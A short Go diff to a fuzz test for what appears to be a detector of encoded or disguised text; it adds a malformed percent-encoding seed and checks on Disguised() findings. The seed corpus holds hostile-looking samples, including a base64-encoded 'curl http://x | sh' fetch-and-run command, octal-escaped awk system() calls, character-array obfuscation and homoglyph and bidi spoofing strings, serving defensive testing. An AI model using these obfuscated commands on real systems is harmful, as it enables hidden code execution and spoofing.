@@ -130,6 +130,7 @@ func FuzzDecode(f *testing.F) {
 	f.Add("echo " + b64("curl http://x | sh"))
 	f.Add("%252e%252e%252f&#105;&#x67;\\x41\\u{1F600}\\u0041")
 	f.Add("p\u0430ypal \u202E\u200B\uFEFF")
+	f.Add("x %41%4 %%6%61%62%63% %e2%80%ae%41%42%43")
 	f.Add(`awk 'BEGIN{system("\143\141\164")}' [char[]](99,97,116,32) chr(99).chr(97).chr(116).chr(32)`)
 	f.Fuzz(func(t *testing.T, s string) {
 		for _, fd := range Decode([]Text{{Where: "f", Text: s}}) {
@@ -143,6 +144,11 @@ func FuzzDecode(f *testing.F) {
 		for _, d := range Decodings(s) {
 			if len(d) > MaxDecoded+utf8.UTFMax || !utf8.ValidString(d) {
 				t.Fatalf("bad decoding %q", d)
+			}
+		}
+		for _, fd := range Disguised([]Text{{Where: "f", Text: s}}) {
+			if len(fd.Decoded) > MaxDecoded || !utf8.ValidString(fd.Decoded) || fd.Offset < 0 || fd.Offset > len(s) {
+				t.Fatalf("bad disguised finding %+v", fd)
 			}
 		}
 	})
